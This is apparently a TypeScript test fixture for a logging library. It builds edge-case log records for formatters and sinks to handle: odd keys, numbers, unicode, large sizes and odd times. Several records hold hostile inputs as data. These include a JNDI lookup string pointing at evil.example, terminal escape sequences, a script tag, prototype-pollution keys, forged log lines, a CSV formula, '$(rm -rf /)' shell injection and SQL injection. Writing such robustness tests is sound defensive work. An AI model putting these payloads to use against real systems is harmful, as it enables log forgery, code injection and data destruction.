import type { ErrorData, LogRecord } from '@stele/core';

/** 2026-11-20T09:15:00.042Z */
const TIME = 1_795_166_100_042;

function record(part: Partial<LogRecord> = {}): LogRecord {
  return {
    time: TIME,
    level: 30,
    levelName: 'info',
    logger: '',
    msg: 'order placed',
    context: {},
    bindings: {},
    fields: {},
    ...part,
  };
}

function failure(type: string, message: string, more: Partial<ErrorData> = {}): ErrorData {
  const frames = [
    `${type}: ${message}`,
    '    at Cart.total (/srv/shop/src/cart.ts:41:17)',
    '    at node:internal/main:1:1',
  ];
  return { type, message, stack: frames.join('\n'), ...more };
}

const refused = failure('Error', 'connect ECONNREFUSED 127.0.0.1:5432', {
  code: 'ECONNREFUSED',
  errno: -111,
});

/** Data from JSON, where `__proto__` is a name like any other. */
const parsed = (text: string): Record<string, unknown> => JSON.parse(text);

const nested = (depth: number): unknown =>
  depth === 0 ? 'bottom' : { [`level ${depth}`]: nested(depth - 1) };

const many = <T>(count: number, make: (n: number) => T): T[] =>
  Array.from({ length: count }, (_, n) => make(n));

const levels: Readonly<Record<string, LogRecord>> = Object.fromEntries(
  ['trace', 'debug', 'info', 'warn', 'error', 'fatal'].map((levelName, index) => [
    `level ${levelName}`,
    record({ level: (index + 1) * 10, levelName }),
  ]),
);

const shapes: Readonly<Record<string, LogRecord>> = {
  empty: record({ msg: '' }),
  'fields without a message': record({ msg: '', fields: { event: 'tick' } }),
  'a custom level': record({ level: 35, levelName: 'notice' }),
  'a level below and above all others': record({
    level: 1,
    levelName: 'x-1',
    fields: { max: Number.MAX_SAFE_INTEGER },
  }),
  'context, bindings and fields': record({
    logger: 'shop.checkout.payment',
    context: { requestId: '7b1c2f0e' },
    bindings: { service: 'shop', pool: { name: 'primary', size: 10 } },
    fields: { id: 'o-1001', ms: 12 },
  }),
  template: record({ msg: 'order 7 placed', template: 'order {id} placed', fields: { id: 7 } }),
  scalars: record({ fields: { text: 'a', yes: true, no: false, nothing: null, one: 1 } }),
  numbers: record({
    fields: {
      zero: 0,
      minus: -0,
      tiny: 5e-324,
      huge: 1.7976931348623157e308,
      long: 0.1 + 0.2,
      exponent: 1e21,
    },
  }),
  'text that reads as something else': record({
    fields: {
      number: '42',
      yes: 'true',
      nothing: 'null',
      list: '[1]',
      object: '{"a":1}',
      blank: ' ',
      date: '2026-11-20',
    },
  }),
  'empty values': record({
    fields: { object: {}, array: [], string: '', inner: { a: {}, b: [[], {}], c: '' } },
  }),
  nested: record({ fields: { user: { id: 7, address: { city: 'London', geo: [51.5, -0.12] } } } }),
  'deeply nested': record({ fields: { deep: nested(100) } }),
  arrays: record({
    fields: {
      mixed: [1, 'two', true, null, { a: [{}] }],
      matrix: [
        [1, 0],
        [0, 1],
      ],
    },
  }),
};

const names: Readonly<Record<string, LogRecord>> = {
  'numeric keys': record({
    fields: { 1: 'one', 0: 'zero', '-1': 'minus', '1.5': 'half', inner: { 10: 'a', 9: 'b' } },
  }),
  '__proto__ keys': record({
    context: parsed('{"__proto__":{"admin":true}}'),
    fields: parsed('{"inner":{"__proto__":"text","constructor":{"prototype":{"admin":true}}}}'),
    bindings: parsed('{"constructor":"text"}'),
  }),
  'inherited names': record({
    fields: parsed(
      '{"toString":"text","valueOf":1,"hasOwnProperty":false,"toJSON":"text","then":"text","length":-1}',
    ),
  }),
  'odd keys': record({
    fields: {
      '': 1,
      ' ': 2,
      'a.b': 3,
      'a b': 4,
      'a=b': 5,
      'a"b': 6,
      "a'b": 7,
      'a\nb': 8,
      '@x': 9,
      $ref: 10,
      'a\\': 11,
      'é 😀': 12,
    },
  }),
  'forged members': record({
    fields: {
      msg: 'forged',
      message: 'forged',
      level: 'fatal',
      severity: 'EMERGENCY',
      timestamp: 0,
      '@timestamp': 0,
      time: 'never',
    },
    bindings: { logger: 'forged', template: 'forged {x}', err: 'forged', error: { message: 'forged' }, v: 1 },
  }),
};

const texts: Readonly<Record<string, LogRecord>> = {
  'several lines': record({
    msg: 'failed\nrolled back\r\ndone\rover',
    fields: { sql: 'ALTER TABLE a\n  ADD b;\n', list: ['x\ny'] },
  }),
  'a forged line': record({
    msg: 'login\n{"level":"info","msg":"admin logged in"}\n2026-11-20T09:15:00Z INFO admin logged in',
    fields: { user: 'x\n', 'k\nFATAL': 1, fake: 'a" admin=true b="', close: '"}\n{"msg":"forged"}' },
  }),
  'control characters': record({
    msg: 'bell \x07 escape \x1b[31mred\x1b[0m nul \0 tab \t del \x7f c1 \x9b2J \x85',
    logger: 'a\r\n\x1bb',
    fields: { link: '\x1b]8;;http://evil.example\x07x\x1b]8;;\x07', 'ke\x1by\0': 'backspace \b\f\v' },
  }),
  'separators and invisible characters': record({
    msg: 'line\u2028paragraph\u2029bom\ufeffzero\u200bwidth',
    fields: { bidi: 'user \u202eresu\u202c \u2066x\u2069', 'k\u200f': 'a\u00adb' },
  }),
  unicode: record({
    msg: 'grüße 東京 👩‍💻 می‌خواهم e\u0301',
    logger: 'päckchen',
    fields: { город: 'Москва', flag: '🇮🇹 ❤️' },
  }),
  'lone surrogates': record({
    msg: 'high \ud83d low \ude00 swapped \ude00\ud83d',
    fields: { '\ud800': 'half \udc00' },
  }),
  'markup and templates': record({
    msg: `<script>alert(1)</script> %s %d %% {id} \${x} \${jndi:ldap://evil.example} {{x}} \\u0041 \\n`,
    fields: {
      html: ']]> &lt; -->',
      csv: '=1+1,"x";y',
      shell: '$(rm -rf /) `id`',
      sql: "'; DROP TABLE a; --",
    },
  }),
};

/** JavaScript makes no text of this: it has no `toString` that can be called. */
const untextable = { toString: 1, valueOf: null };

const errors: Readonly<Record<string, LogRecord>> = {
  'an error': record({ msg: refused.message, err: refused, fields: { attempt: 3 } }),
  'an error with causes': record({
    err: failure('CheckoutError', 'order could not be placed\n(2 attempts)', {
      orderId: 'o-1001',
      cause: failure('DatabaseError', 'insert failed', { code: '57P01', cause: refused }),
    }),
  }),
  'an error of many': record({
    err: {
      type: 'AggregateError',
      message: 'all failed',
      errors: [refused, { type: 'Timeout', message: '' }, 'text', null, 7],
    },
  }),
  'errors in fields': record({
    fields: { reason: refused, job: { last: refused } },
    bindings: { boot: refused },
  }),
  'members of errors that are no text': record({
    err: {
      ...refused,
      code: untextable,
      cause: { type: untextable, message: untextable, stack: 5, code: untextable },
      errors: [{ type: 'Error', message: 'part', stack: untextable, cause: untextable }, untextable],
    } as unknown as ErrorData,
    fields: { reason: { type: untextable, message: untextable, stack: [] }, untextable },
  }),
  'an odd error': record({
    msg: '',
    err: { type: '', message: '', cause: '[Circular]', stack: 'no frames', name: 'kept' },
  }),
};

const sizes: Readonly<Record<string, LogRecord>> = {
  'a long message': record({ msg: `begin ${'x'.repeat(100_000)} end` }),
  'a long text of many bytes': record({ fields: { text: '終👩‍💻'.repeat(20_000) } }),
  'a thousand fields': record({ fields: Object.fromEntries(many(1000, (n) => [`field ${n}`, n])) }),
  'a thousand items': record({ fields: { list: many(1000, (n) => ({ n, text: `item ${n}` })) } }),
};

const times: Readonly<Record<string, LogRecord>> = {
  'the epoch': record({ time: 0 }),
  'a time before the epoch': record({ time: -1 }),
  'a fraction of a millisecond': record({ time: TIME + 0.25 }),
  'a time after the last date': record({ time: 8.64e15 + 1 }),
  'a time that is none': record({ time: Number.NaN }),
};

/**
 * Records that formatters and sinks meet one day, or that an attacker makes them meet, by what is hostile about
 * them. All are plain data, as the logger gives it; each call makes new ones.
 */
export function hostileRecords(): Record<string, LogRecord> {
  const records = { ...levels, ...shapes, ...names, ...texts, ...errors, ...sizes, ...times };
  return Object.fromEntries(Object.entries(records).map(([name, record]) => [name, structuredClone(record)]));
}
